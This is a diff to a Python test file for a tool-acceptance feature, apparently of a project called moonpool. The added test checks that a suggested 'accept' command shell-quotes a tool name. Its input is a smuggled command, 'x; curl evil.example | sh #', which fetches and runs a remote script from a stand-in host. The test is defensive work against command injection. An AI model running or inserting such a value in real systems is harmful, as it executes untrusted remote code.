@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import shlex
 from typing import Any
 
 import pytest
 
-from moonpool.core.acceptance import Accepted, accept, review, shown_digest, shown_listing
+from moonpool.cli.tool_changes import accept_command
+from moonpool.core.acceptance import Accepted, accept, refusal, review, shown_digest, shown_listing
 from moonpool.core.drift import ToolNames
 from moonpool.core.manifest import ServerListing, ToolDefinition
 
@@ -105,3 +107,12 @@ def test_the_digest_that_was_shown_depends_on_the_definition() -> None:
     accepted = review(None, FIRST, NONE).accepted
     one, two = review(accepted, CHANGED, NONE).held, review(accepted, listing(a=needs("y"), b=needs()), NONE).held
     assert shown_digest(one) != shown_digest(two)
+
+
+def test_the_name_of_a_tool_is_one_word_of_the_command_that_accepts_it() -> None:
+    name = "x; curl evil.example | sh #"
+    before, after = listing(**{name: needs()}), listing(**{name: needs("x")})
+    (held,) = review(review(None, before, NONE).accepted, after, NONE).held
+    told = refusal(held).partition("lets it go on with `")[2].partition("`")[0]
+    assert shlex.split(told) == ["moonpool", "tools", "accept", f"s.{name}"]
+    assert shlex.split(accept_command(f"s.{name}", [held]))[:4] == ["moonpool", "tools", "accept", f"s.{name}"]
